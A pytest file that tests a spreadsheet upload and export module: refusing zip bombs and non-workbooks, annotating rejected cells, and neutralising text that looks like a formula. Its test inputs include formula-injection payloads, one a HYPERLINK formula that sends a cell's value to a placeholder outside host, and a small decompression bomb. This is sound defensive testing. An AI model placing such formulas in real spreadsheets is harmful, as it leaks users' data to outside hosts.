"""The spreadsheet pieces every import shares: an upload is distrusted before it is opened,
and a refused file comes back with each problem in its cell."""

import csv
import datetime
import io
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from core import xlsx


def _book(rows) -> io.BytesIO:
    book = Workbook()
    for row in rows:
        book.active.append(row)
    out = io.BytesIO()
    book.save(out)
    out.seek(0)
    return out


def test_a_file_that_is_not_a_zip_is_refused():
    with pytest.raises(xlsx.BadFile):
        xlsx.open_workbook(io.BytesIO(b"code,date\n540102,2021-07-01\n"))


def test_a_zip_that_expands_too_far_is_refused_before_it_is_read(settings):
    settings.XUEJIAO_UPLOAD_MAX_EXPANDED_MB = 1
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", "<Types/>")
        zf.writestr("xl/workbook.xml", "<workbook/>")
        zf.writestr("xl/worksheets/sheet1.xml", b"0" * 2_000_000)
    with pytest.raises(xlsx.BadFile):
        xlsx.open_workbook(data)


def test_a_zip_that_is_not_a_workbook_is_refused():
    data = io.BytesIO()
    with zipfile.ZipFile(data, "w") as zf:
        zf.writestr("hello.txt", "hello")
    with pytest.raises(xlsx.BadFile):
        xlsx.open_workbook(data)


def test_the_annotated_copy_marks_each_cell_and_lists_a_rows_problems_last():
    source = _book([["code", "date"], ["540102", "soon"], ["540104", "2021-07-01"]])
    out = io.BytesIO()
    problems = [(2, "B", "Not a date."), (2, "B", "Required."), (3, "A", "Outside scope."), (3, "", "Whole row.")]
    xlsx.annotate(source, problems, out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    assert [c.value for c in sheet[1]] == ["code", "date", "问题"]  # in the default language
    assert sheet["B2"].comment.text == "Not a date.\nRequired." and sheet["A2"].comment is None
    assert sheet["B2"].fill.fgColor.rgb.endswith("FFC7CE")
    assert sheet["C2"].value == "B: Not a date.; B: Required."
    assert sheet["A3"].comment.text == "Outside scope." and sheet["C3"].value == "A: Outside scope.; Whole row."


def test_a_template_column_offers_its_choices_from_a_second_sheet():
    book, sheet = xlsx.template("talks", ["Unit code", "Date"], date_columns=[2])
    xlsx.add_drop_downs(
        book, sheet, [(1, "Unit code", ["540102", "540103"]), (None, "Unit", ["a", "b"])], title="units"
    )
    out = io.BytesIO()
    book.save(out)
    again = load_workbook(io.BytesIO(out.getvalue()))
    validations = again["talks"].data_validations.dataValidation
    assert len(validations) == 1 and validations[0].formula1 == "'units'!$A$2:$A$3"
    assert [c.value for c in again["units"]["B"]] == ["Unit", "a", "b"]
    assert again["talks"].max_row == 1


# --- the writer ------------------------------------------------------------------------------

LOOKS_LIKE_FORMULAS = ['=HYPERLINK("http://x"&B2,"x")', "=1+1", " =1+1", "+1+2", "-3+4", "@SUM(1,2)", "\t=1", "\r=1"]


def _written(rows, *, write_only: bool = False) -> bytes:
    book = xlsx.book(write_only=write_only)
    sheet = book.create_sheet("out") if write_only else book.active
    for row in rows:
        xlsx.append(sheet, row)
    return xlsx.to_bytes(book)


@pytest.mark.parametrize("write_only", [False, True])
def test_a_text_that_looks_like_a_formula_is_written_as_the_text_typed(write_only):
    content = _written([LOOKS_LIKE_FORMULAS, [5, -5, 2.5, "plain", "-"]], write_only=write_only)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    for cell, typed in zip(sheet[1], LOOKS_LIKE_FORMULAS, strict=True):
        assert cell.data_type == "s" and cell.quotePrefix and cell.value == typed
    numbers = sheet[2]
    assert [c.value for c in numbers[:5]] == [5, -5, 2.5, "plain", "-"]
    assert [c.data_type for c in numbers[:3]] == ["n", "n", "n"] and not numbers[3].quotePrefix


def test_the_writer_leaves_out_what_an_xlsx_cannot_hold_and_writes_local_times():
    from django.utils import timezone

    moment = timezone.make_aware(datetime.datetime(2021, 7, 1, 9, 30))
    sheet = load_workbook(io.BytesIO(_written([["a\x0bb\x1bc", moment]]))).active
    assert sheet["A1"].value == "abc" and sheet["B1"].value == datetime.datetime(2021, 7, 1, 9, 30)


def test_a_text_longer_than_a_cell_holds_is_cut_with_an_ellipsis():
    sheet = load_workbook(io.BytesIO(_written([["学" * 40000, "=" + "x" * 40000]]))).active
    assert len(sheet["A1"].value) == 32767 and sheet["A1"].value.endswith("学…")
    assert len(sheet["B1"].value) == 32767 and sheet["B1"].quotePrefix


def test_a_download_is_an_attachment_kept_out_of_shared_caches():
    response = xlsx.download(_written([["x"]]), "活动.xlsx")
    assert response["Content-Type"] == xlsx.CONTENT_TYPE
    assert (
        response["Content-Disposition"].startswith("attachment")
        and "filename*=utf-8''" in response["Content-Disposition"]
    )
    assert response["Cache-Control"] == "private, no-store"


def test_an_import_sees_a_formula_behind_leading_spaces():
    assert xlsx.looks_like_formula("=1") and xlsx.looks_like_formula("  =1") and xlsx.looks_like_formula("\u3000=1")
    assert not xlsx.looks_like_formula("-5") and not xlsx.looks_like_formula("a=1") and not xlsx.looks_like_formula(3)


def test_the_annotated_copy_shows_a_formula_of_the_upload_as_text():
    source = _book([["code", "title"], ["540102", "=1+1"]])
    out = io.BytesIO()
    xlsx.annotate(source, [(2, "B", "Formulas are not allowed.")], out)
    cell = load_workbook(io.BytesIO(out.getvalue())).active["B2"]
    assert cell.data_type == "s" and cell.value == "=1+1"


def test_no_workbook_is_made_outside_the_writer():
    """Every xlsx the platform produces goes through core.xlsx (tests build their uploads
    as a user's program would)."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if not {".venv", "tests", "var", "node_modules"} & set(path.relative_to(root).parts)
        and path.relative_to(root) != Path("core/xlsx.py")
        and "Workbook(" in path.read_text(encoding="utf-8")
    ]
    assert offenders == []


@pytest.mark.skipif(not shutil.which("soffice"), reason="LibreOffice (soffice) is not installed")
def test_libreoffice_shows_every_neutralised_text_as_typed_and_evaluates_nothing(tmp_path):
    source = tmp_path / "export.xlsx"
    source.write_bytes(_written([LOOKS_LIKE_FORMULAS[:6] + [7]]))
    subprocess.run(
        [
            "soffice",
            f"-env:UserInstallation=file://{tmp_path / 'profile'}",
            "--headless",
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
            str(tmp_path),
            str(source),
        ],
        check=True,
        capture_output=True,
        timeout=120,
    )
    with open(tmp_path / "export.csv", encoding="utf-8", newline="") as fh:
        (row,) = list(csv.reader(fh))
    assert row == LOOKS_LIKE_FORMULAS[:6] + ["7"]
